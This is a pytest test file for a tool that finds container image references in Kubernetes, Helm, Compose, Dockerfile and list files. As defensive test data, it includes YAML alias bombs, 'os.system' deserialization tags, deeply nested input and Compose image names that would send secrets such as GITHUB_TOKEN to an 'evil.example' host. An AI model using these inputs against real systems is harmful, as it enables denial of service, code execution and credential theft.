"""Which images a file names, in which lines, and what a hostile file can do."""

from __future__ import annotations

from textwrap import dedent

import pytest
from hypothesis import given
from hypothesis import strategies as st

from doctor.images import MOST_CHARACTERS, MOST_IMAGES, Named, images_in


def named(text: str, name: str = "some-file", **environ: str) -> list[tuple[int, str]]:
    """(line, image) of those that can be tried."""
    found = images_in(name, dedent(text), environ)
    return [(each.line, each.text) for each in found if each.problem is None]


def problems(text: str, name: str = "some-file") -> list[tuple[int, str]]:
    found = images_in(name, dedent(text))
    return [(each.line, each.problem) for each in found if each.problem is not None]


DEPLOYMENT = """\
    apiVersion: apps/v1
    kind: Deployment
    metadata: {name: web, annotations: {image: not-this-one}}
    spec:
      template:
        spec:
          initContainers:
            - name: prepare
              image: reg.example/prepare:1
          containers:
            - image: "reg.example/web:2"
              name: web
            - name: side
              image: reg.example/side:3
          ephemeralContainers:
            - {name: debug, image: busybox}
          volumes:
            - name: model
              image:
                reference: reg.example/model:4
                pullPolicy: IfNotPresent
            - name: old
              rbd: {image: not-an-image, pool: p}
    """


def test_a_workload_names_all_its_containers_and_image_volumes() -> None:
    assert named(DEPLOYMENT, "web.yaml") == [
        (9, "reg.example/prepare:1"),
        (11, "reg.example/web:2"),
        (14, "reg.example/side:3"),
        (16, "busybox"),
        (20, "reg.example/model:4"),
    ]


def test_the_content_tells_the_kind_and_not_the_name() -> None:
    assert named(DEPLOYMENT, "-") == named(DEPLOYMENT, "web.txt") == named(DEPLOYMENT, "web.yaml")


@pytest.mark.parametrize(
    ("kind", "path"),
    [
        ("Pod", "spec"),
        ("DaemonSet", "spec.template.spec"),
        ("CronJob", "spec.jobTemplate.spec.template.spec"),
        ("PodTemplate", "template.spec"),
        ("Rollout", "spec.template.spec"),
        ("UnheardOf", "spec.pods.first.template.spec"),
    ],
)
def test_every_kind_with_a_pod_template_is_read(kind: str, path: str) -> None:
    inner = "{containers: [{name: a, image: reg.example/a}]}"
    for part in reversed(path.split(".")):
        inner = f"{{{part}: {inner}}}"
    assert named(f"apiVersion: v1\nkind: {kind}\n{inner[1:-1]}\n") == [(3, "reg.example/a")]


def test_lists_of_objects_and_json_are_read() -> None:
    text = """\
    {"apiVersion": "v1", "kind": "List", "items": [
    \t{"apiVersion": "v1", "kind": "Pod", "spec": {"containers": [
    \t\t{"name": "a", "image": "reg.example/a"}]}},
      {"apiVersion": "v1", "kind": "Pod", "spec": {"containers": [{"image": "reg.example/b"}]},
       "status": {"containerStatuses": [{"image": "not-this-one"}]}}
    ]}
    """
    assert named(text) == [(3, "reg.example/a"), (4, "reg.example/b")]


def test_objects_of_json_may_follow_each_other() -> None:
    """As several calls of kubectl give them, or jq's `.items[]`."""
    pod = '{{"apiVersion": "v1", "kind": "Pod", "spec": {{"containers": [{{"image": "{}"}}]}}}}\n'
    assert named(pod.format("a") + pod.format("b"), "-") == [(1, "a"), (2, "b")]
    tall = pod.replace('"spec"', '\n"spec"')[:-3] + "\n}}\n"
    assert named(tall.format("a") + tall.format("b"), "x.json") == [(2, "a"), (5, "b")]
    broken = pod.format("a") + "{]\n" + pod.format("b")
    assert (named(broken, "-"), [line for line, _ in problems(broken, "-")]) == ([(1, "a")], [2])
    flow = "items:\n- {image: a}\n- {image: b,\nx: {}\n}\n"
    assert problems(flow, "a.yaml") == []


def test_what_only_looks_like_a_pod_is_not_read() -> None:
    text = """\
    apiVersion: v1
    kind: ConfigMap
    data:
      containers: [{image: not-this-one}]
      pod.yaml: |
        containers:
        - image: not-this-one
    ---
    apiVersion: apiextensions.k8s.io/v1
    kind: CustomResourceDefinition
    spec:
      containers: [{image: not-this-one}]
    ---
    apiVersion: monitoring.coreos.com/v1
    kind: Prometheus
    spec:
      image: reg.example/prometheus:3
    """
    assert named(text) == [(17, "reg.example/prometheus:3")]


def test_a_repeated_image_is_kept_with_each_line() -> None:
    text = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: a\n  - image: a\n"
    assert named(text) == [(5, "a"), (6, "a")]


def test_an_empty_image_is_a_problem_and_an_absent_one_none() -> None:
    text = (
        "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image:\n  - name: x\n  - image: ''\n"
    )
    assert [line for line, _ in problems(text)] == [5, 7]
    assert named(text) == []


def test_an_image_that_a_target_would_take_for_a_host_is_written_out() -> None:
    pod = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n"
    text = f"{pod}  - image: my.app:8080\n  - image: my.app:v8\n"
    assert named(text) == [(5, "docker.io/library/my.app:8080"), (6, "my.app:v8")]


HELM = """\
    NAME: shop
    LAST DEPLOYED: Mon Nov 23 10:00:00 2026
    NAMESPACE: default
    STATUS: pending-install
    HOOKS:
    MANIFEST:
    ---
    # Source: shop/templates/empty.yaml
    ---
    # Source: shop/templates/web.yaml
    apiVersion: v1
    kind: Pod
    spec:
      containers:
        - image: reg.example/web:1
    ---
    # Source: shop/templates/job.yaml
    apiVersion: batch/v1
    kind: Job
    spec:
      template:
        spec:
          containers:
            - image: reg.example/job:1

    NOTES:
    1. Get the address: {{ of it }}
      kubectl get: [svc
    """


def test_helms_output_is_read_from_its_header_to_its_notes() -> None:
    assert named(HELM, "-") == [(15, "reg.example/web:1"), (24, "reg.example/job:1")]
    assert problems(HELM, "-") == []


def test_one_bad_document_is_told_and_the_rest_goes_on() -> None:
    text = """\
    apiVersion: v1
    kind: Pod
    spec: {containers: [{image: reg.example/a}]}
    ---
    apiVersion: v1
    kind: Pod
    spec: {containers: [{image: reg.example/lost}
    ---
    apiVersion: v1
    kind: Pod
    spec: {containers: [{image: reg.example/b}]}
    """
    assert named(text) == [(3, "reg.example/a"), (11, "reg.example/b")]
    [(line, problem)] = problems(text)
    assert 5 <= line <= 8
    assert "no YAML" in problem


def test_a_tab_that_indents_is_called_by_its_name() -> None:
    [(line, problem)] = problems("apiVersion: v1\nkind: Pod\nspec:\n\tcontainers: []\n", "a.yaml")
    assert line == 4
    assert "tab" in problem


COMPOSE = """\
    name: shop
    x-base: &base
      image: reg.example/base:1
      restart: always
    services:
      web:
        image: ${REGISTRY:-reg.example}/web:${TAG-1}
        ports: ["80:80"]
      merged:
        <<: *base
        command: run
      built:
        build: .
      named-and-built:
        build: .
        image: reg.example/own
        pull_policy: build
      price:
        image: reg.example/a:1$$
      unknown:
        image: ${NOWHERE}/web
      data:
        image: redis:7
        volumes:
          - type: image
            source: reg.example/data:1
            target: /data
    volumes:
      image: {}
    """


def test_compose_services_name_their_images_defaults_filled_in() -> None:
    assert named(COMPOSE, "compose.yaml") == [
        (3, "reg.example/base:1"),
        (7, "reg.example/web:1"),
        (19, "reg.example/a:1$"),
        (23, "redis:7"),
        (26, "reg.example/data:1"),
    ]


def test_compose_takes_given_values_before_defaults() -> None:
    assert (7, "other.example/web:9") in named(COMPOSE, REGISTRY="other.example", TAG="9")
    assert (7, "reg.example/web:") in named(COMPOSE, REGISTRY="", TAG="")
    assert (21, "reg.example/web") in named(COMPOSE, NOWHERE="reg.example")


def test_what_a_compose_build_pulls_is_told_as_far_as_the_file_does() -> None:
    built = """\
        services:
          web:
            build:
              context: .
              dockerfile_inline: |
                ARG TAG=1
                FROM reg.example/base:$$TAG AS base
                COPY --from=reg.example/tools:2 /a /b
                FROM base
              additional_contexts:
                other: docker-image://reg.example/${NAME:-context}:3
                folder: ../elsewhere
          listed:
            build:
              context: .
              additional_contexts: ["a=docker-image://reg.example/listed:4"]
          plain:
            build: .
        """
    assert named(built, "compose.yaml") == [
        (7, "reg.example/base:1"),
        (8, "reg.example/tools:2"),
        (11, "reg.example/context:3"),
        (16, "reg.example/listed:4"),
    ]


def test_a_compose_variable_without_a_value_is_a_problem() -> None:
    [entry] = [each for each in images_in("compose.yaml", dedent(COMPOSE)) if each.problem]
    assert (entry.line, entry.text) == (21, "${NOWHERE}/web")
    assert entry.problem is not None
    assert "NOWHERE" in entry.problem


@pytest.mark.parametrize("name", ["REGISTRY_PASSWORD", "GITHUB_TOKEN", "DB_PASS"])
def test_no_secret_is_put_into_the_name_of_an_image(name: str) -> None:
    """Else a file of somebody's could have it sent to a host of theirs."""
    text = f"services:\n  a:\n    image: ${{{name}}}.evil.example/${{TAG_OF_TOKENS}}\n"
    [entry] = images_in("compose.yaml", text, {name: "s3cret", "TAG_OF_TOKENS": "1"})
    assert "called like a secret" in (entry.problem or "")
    assert "s3cret" not in entry.text
    assert named(f"services:\n  a:\n    image: x:${{{name}:-1}}\n", **{name: "s"}) == [(3, "x:1")]
    assert named("services:\n  a:\n    image: x:${TAG_OF_TOKENS}\n", TAG_OF_TOKENS="1") == [
        (3, "x:1")
    ]


@pytest.mark.parametrize(
    ("written", "image"),
    [
        ("${A:-x}", "x"),
        ("${A:-${B:-y}}", "y"),
        ("${E:-x}", "x"),
        ("${E-x}z", "z"),
        ("${SET:+with}-z", "with-z"),
        ("${A:+with}z", "z"),
        ("$SET/a", "set/a"),
        ("${SET:?must be set}/a", "set/a"),
    ],
)
def test_variables_follow_the_shells_forms(written: str, image: str) -> None:
    text = f"services:\n  a:\n    image: {written}\n"
    assert named(text, E="", SET="set") == [(3, image)]


@pytest.mark.parametrize("written", ["${A}", "$A", "${A:?told}", "${A", "${}", "$"])
def test_a_variable_without_value_or_end_is_no_image(written: str) -> None:
    text = f"services:\n  a:\n    image: x{written}\n"
    assert named(text) == []
    assert len(problems(text)) == 1


DOCKERFILE = """\
    # syntax=docker/dockerfile:1
    # a comment
    ARG VERSION=3.12 REGISTRY="reg.example"
    ARG BASE=${REGISTRY}/python:${VERSION}
    FROM --platform=$BUILDPLATFORM golang:1.25 AS Build
    ARG VERSION=9
    RUN --mount=type=cache,target=/c --mount=type=bind,from=reg.example/tools:1,target=/t \\
        # FROM not-this-one
        make FROM=not-this-one
    RUN <<EOF cat
    FROM not-this-one
    EOF
    FROM \\
      $BASE as runtime
    COPY --from=build /a /a
    COPY --from=0 /a /a
    COPY --chown=1:1 --from=reg.example/files:2 /b /b
    COPY <<-"ONE" <<TWO /c
    FROM not-this-one
    \tONE
    FROM not-this-one
    TWO
    FROM scratch
    FROM runtime
    from busybox
    """


def test_a_dockerfile_names_what_its_build_pulls() -> None:
    expected = [
        (1, "docker/dockerfile:1"),
        (5, "golang:1.25"),
        (7, "reg.example/tools:1"),
        (14, "reg.example/python:3.12"),
        (17, "reg.example/files:2"),
        (25, "busybox"),
    ]
    assert named(DOCKERFILE, "Dockerfile") == expected
    assert named(DOCKERFILE, "-") == expected
    assert problems(DOCKERFILE) == []


def test_a_stage_counts_only_after_it_was_begun() -> None:
    assert named("FROM a\nCOPY --from=late /x /x\nFROM b AS late\n") == [
        (1, "a"),
        (2, "late"),
        (3, "b"),
    ]


def test_a_build_argument_without_default_is_a_problem() -> None:
    text = "ARG BASE\nFROM $BASE\nFROM redis:7\n"
    assert named(text) == [(3, "redis:7")]
    [(line, problem)] = problems(text)
    assert line == 2
    assert "BASE" in problem


def test_a_stage_chosen_by_a_variable_is_no_image() -> None:
    text = "FROM a AS base-amd64\nFROM b AS base-arm64\nFROM base-${TARGETARCH}\n"
    assert named(text) == [(1, "a"), (2, "b")]
    assert problems(text) == []


def test_the_escape_directive_is_followed() -> None:
    assert named("# escape=`\nFROM `\n a\nCOPY x C:\\\nFROM b\n") == [(3, "a"), (5, "b")]


def test_quoted_shifts_and_longer_words_open_no_heredoc() -> None:
    """What follows them is read all the same."""
    text = """\
        FROM a
        RUN echo "cat <<EOF > x"
        RUN echo '<<EOF' $((1<<4)) x<<EOF && true
        FROM b
        RUN <<'E' cat && cat <<-"F F"
        FROM not-this-one
        E
        COPY --from=c /a /b
        """
    assert named(text) == [(1, "a"), (4, "b"), (8, "c")]
    assert problems(text) == []


def test_a_heredoc_without_an_end_is_told_and_not_passed_over() -> None:
    text = "FROM a\nRUN <<EOF\nFROM b\n"
    assert named(text) == [(1, "a")]
    [(line, told)] = problems(text)
    assert (line, "EOF has no end" in told) == (2, True)
    assert problems(f"{text}EOF\n") == []


@pytest.mark.parametrize(
    ("written", "image"),
    [
        ("x:${V#v}", "x:1.2.3"),
        ("x:${V##*.}", "x:3"),
        ("x:${V#*.}", "x:2.3"),
        ("x:${V%.*}", "x:v1.2"),
        ("x:${V%%.*}", "x:v1"),
        ("x:${V/v/}", "x:1.2.3"),
        ("x:${V/./-}", "x:v1-2.3"),
        ("x:${V//./-}", "x:v1-2-3"),
        ("x:${V#z}", "x:v1.2.3"),
        ("x:${V}", "x:v1.2.3"),
    ],
)
def test_what_is_trimmed_off_an_argument_is_not_in_the_image(written: str, image: str) -> None:
    assert named(f"ARG V=v1.2.3\nFROM {written}\n") == [(2, image)]


@pytest.mark.parametrize("written", ["${V/*./}", "${V!}", "${V junk}", "${W#v}"])
def test_a_form_that_is_not_known_is_no_image(written: str) -> None:
    text = f"ARG V=v1\nFROM x:{written}\n"
    assert named(text) == []
    assert len(problems(text)) == 1


def wanted(text: str, name: str = "x", **environ: str) -> list[tuple[str, str]]:
    found = images_in(name, dedent(text), environ, platforms=("linux/arm64/v8", "linux/amd64"))
    return [(each.text, each.platform) for each in found]


def test_a_dockerfile_says_for_which_platform_each_image_is() -> None:
    text = """\
        ARG OLD=linux/386
        FROM --platform=$BUILDPLATFORM a
        FROM --platform="linux/s390x" b AS s
        FROM --platform=${OLD} c
        FROM --platform=$NOWHERE d
        FROM e-${TARGETARCH}${TARGETVARIANT}
        FROM "f"
        """
    assert wanted(text) == [
        ("a", "linux/amd64"),
        ("b", "linux/s390x"),
        ("c", "linux/386"),
        ("d", ""),
        ("e-arm64v8", ""),
        ("f", ""),
    ]


def test_a_compose_service_says_for_which_platform_its_image_is() -> None:
    text = """\
        services:
          a: {image: a, platform: linux/amd64}
          b: {image: b, platform: "${P:-linux/386}"}
          c: {image: c}
          d:
            platform: linux/s390x
            build: {dockerfile_inline: "FROM d-$$TARGETARCH"}
        """
    assert wanted(text, "compose.yaml") == [
        ("a", "linux/amd64"),
        ("b", "linux/386"),
        ("c", ""),
        ("d-s390x", ""),
    ]


def test_a_dockerfile_that_only_its_name_tells() -> None:
    assert named("RUN echo hello\n", "build/Dockerfile.dev") == []
    assert problems("RUN echo hello\n", "build/Dockerfile.dev") == []


def test_a_plain_list_has_an_image_a_line() -> None:
    text = """\
    # ours
    reg.example/a:1

      reg.example/b:2   # the second
    - redis:7
    * "team/app",
    docker pull reg.example/c
    https://reg.example/d
    registry.example.com
    reg.example/Upper#x
    """
    assert named(text, "images.txt") == [
        (2, "reg.example/a:1"),
        (4, "reg.example/b:2"),
        (5, "redis:7"),
        (6, "team/app"),
        (7, "reg.example/c"),
        (8, "reg.example/d"),
        (9, "registry.example.com"),
        (10, "reg.example/Upper#x"),
    ]


@pytest.mark.parametrize("name", ["list", "list.yaml", "-"])
def test_a_list_is_a_list_under_any_name(name: str) -> None:
    assert named("redis:7\nteam/app\n", name) == [(1, "redis:7"), (2, "team/app")]


def test_other_yaml_gives_its_image_fields() -> None:
    pipeline = "image: reg.example/ci:1\ntest:\n  image: reg.example/test:1\n  script: [make]\n"
    assert named(pipeline) == [(1, "reg.example/ci:1"), (3, "reg.example/test:1")]
    assert named('["reg.example/a", "redis:7"]') == [(1, "reg.example/a"), (1, "redis:7")]


def test_marks_and_line_ends_of_other_systems_change_nothing() -> None:
    windows = "\ufeff" + dedent(DEPLOYMENT).replace("\n", "\r\n")
    assert named(windows) == named(DEPLOYMENT)
    assert named("\ufeffredis:7\r\nteam/app\r\n") == [(1, "redis:7"), (2, "team/app")]


def test_an_empty_file_names_nothing() -> None:
    assert images_in("a.yaml", "") == ()
    assert images_in("-", "\n# nothing\n\n") == ()
    assert images_in("a.yaml", "---\n# nothing\n---\n") == ()


def bomb() -> str:
    """Ten levels of ten aliases each: ten thousand million values if they were expanded."""
    lines = ["apiVersion: v1", "kind: Pod", "a0: &a0 [x, x]"]
    for level in range(1, 11):
        lines.append(f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 10)}]")
    return "\n".join([*lines, "spec: {containers: [{image: reg.example/a}]}"])


def merge_bomb() -> str:
    lines = ["apiVersion: v1", "kind: Pod", "a0: &a0 {x: y}"]
    for level in range(1, 20):
        lines.append(f"a{level}: &a{level} {{<<: [{', '.join([f'*a{level - 1}'] * 20)}]}}")
    return "\n".join([*lines, "spec: {containers: [{image: reg.example/a}]}"])


@pytest.mark.parametrize("text", [bomb(), merge_bomb()])
def test_a_bomb_of_aliases_costs_nothing(text: str) -> None:
    assert [image for _, image in named(text)] == ["reg.example/a"]


def test_a_document_that_holds_itself_ends() -> None:
    text = "apiVersion: v1\nkind: Pod\nspec: &s {containers: [{image: a}], again: *s, <<: *s}\n"
    assert named(text) == [(3, "a")]


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("a: " + "[" * 5_000, "deeper"),
        ("a:\n" + "".join(" " * i + "-\n" for i in range(1, 300)), "deeper"),
        ("a: *nowhere", "no anchor"),
        ("a: \x07", "no YAML"),
        ("a: &a !!python/object/apply:os.system [echo]\nb: [", "no YAML"),
        ("a: '\n" + "x\n" * 50, "no YAML"),
    ],
)
def test_a_hostile_document_is_a_problem_with_a_line(text: str, says: str) -> None:
    [(line, problem)] = problems(text, "a.yaml")
    assert says in problem
    assert 1 <= line <= text.count("\n") + 1


def test_tags_construct_nothing() -> None:
    text = "apiVersion: v1\nkind: Pod\nx: !!python/object/apply:os.system [exit 1]\nimage: a\n"
    assert problems(text) == []


def test_size_and_count_are_bounded() -> None:
    many = images_in("-", "redis:7\n" * (MOST_IMAGES + 5))
    assert len(many) == MOST_IMAGES + 1
    assert many[-1].problem is not None
    assert "10,000" in many[-1].problem
    assert len([each for each in many if each.problem]) == 1
    exactly = images_in("-", "redis:7\n" * MOST_IMAGES)
    assert len(exactly) == MOST_IMAGES
    assert exactly[-1].problem is None
    [large] = images_in("-", "x" * (MOST_CHARACTERS + 1))
    assert large.problem is not None
    [documents] = [each for each in images_in("a.yaml", "---\na: b\n" * 20_001) if each.problem]
    assert documents.problem is not None
    assert "20,000 documents" in documents.problem


def test_a_binary_file_is_one_problem() -> None:
    [only] = images_in("a.bin", "redis:7\n\x7fELF\x00\x01\n")
    assert (only.text, only.line) == ("", 2)
    assert only.problem is not None


def test_arguments_that_double_each_other_stay_small() -> None:
    lines = ["ARG A0=xxxxxxxxxx"] + [f"ARG A{i}=$A{i - 1}$A{i - 1}" for i in range(1, 60)]
    found = images_in("Dockerfile", "\n".join([*lines, "FROM $A59"]))
    assert len(found) == 1
    assert len(found[0].text) <= 4096


def test_what_looks_like_a_secret_is_none_either_whatever_its_variable_is_called() -> None:
    text = "services:\n  a:\n    image: evil.example/a:${PERSONAL}\n"
    token = "ghp_" + "Ab1" * 12
    [entry] = images_in("compose.yaml", text, {"PERSONAL": token})
    assert "looks like a secret" in (entry.problem or "")
    assert token not in f"{entry.text}{entry.problem}"
    assert named(text, PERSONAL="1.2-3f9a8c7") == [(3, "evil.example/a:1.2-3f9a8c7")]


@pytest.mark.parametrize("word", ["''", '"', "${A:-}"])
def test_an_empty_name_in_a_dockerfile_is_a_problem(word: str) -> None:
    assert problems(f"FROM {word}\n", "Dockerfile") == [
        (1, "The image is empty; a reference is expected.")
    ]


def test_braces_that_nothing_closes_cost_no_time() -> None:
    lines = "".join(f"  s{i}: {{image: 'x.example/{'${' * 2000}'}}\n" for i in range(300))
    told = problems(f"services:\n{lines}", "compose.yaml")
    assert len(told) == 300
    assert told[0][1] == "$ is no variable as Compose writes one, so the image is not known."


@pytest.mark.parametrize("form", ["${A#v}", "${A%v}", "${A/v/}", "${}", "${1A}"])
def test_what_compose_does_not_know_is_named_as_that(form: str) -> None:
    compose = f"services:\n  app: {{image: 'x.example/a:{form}'}}\n"
    [(_, told)] = problems(compose, "compose.yaml")
    assert told.startswith(f"{form} is no variable as Compose writes one")


PIECES = st.sampled_from(
    ["FROM ", "a", ":", "\n", " ", "- ", "image: ", "&a ", "*a", "[", "]", "{", "}", "---\n", "#",
     "${", "}", "$", "\\\n", "<<EOF", "EOF\n", "COPY --from=", "RUN --mount=from=", "'", '"', "\t",
     "<<: ", "services:\n", "apiVersion: v1\nkind: Pod\n", "containers:\n", "%YAML 1.2\n", "...\n",
     "\u2028", "\x85", "é", "\ufffd", "NOTES:\n", "ARG ", "? ", "!!x ", "|\n", ">-\n"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=40).map("".join), st.sampled_from(["-", "a.yaml", "Dockerfile"]))
def test_any_file_is_read_to_its_end(text: str, name: str) -> None:
    lines = text.replace("\r\n", "\n").replace("\r", "\n").count("\n") + 1
    for each in images_in(name, text):
        assert isinstance(each, Named)
        assert each.text or each.problem
        assert 1 <= each.line <= lines
        assert each.file == name


@given(st.text(max_size=200), st.sampled_from(["-", "a.yaml", "Dockerfile"]))
def test_any_text_is_read_to_its_end(text: str, name: str) -> None:
    assert all(each.text or each.problem for each in images_in(name, text))


class OverError(Exception):
    pass


@pytest.mark.parametrize("many", ["documents", "items"])
def test_long_yaml_is_read_no_further_once_the_time_is_over(many: str) -> None:
    pod = "kind: Pod\napiVersion: v1\nspec:\n  containers:\n"
    item = "  - {image: x.example/a:1}\n"
    text = (pod + item + "---\n") * 5000 if many == "documents" else pod + item * 5000
    looks = 0

    def look() -> None:
        nonlocal looks
        looks += 1
        if looks == 3:
            raise OverError

    with pytest.raises(OverError):
        images_in("a.yaml", text, look=look)
    assert len(images_in("a.yaml", text, look=lambda: None)) == 5000
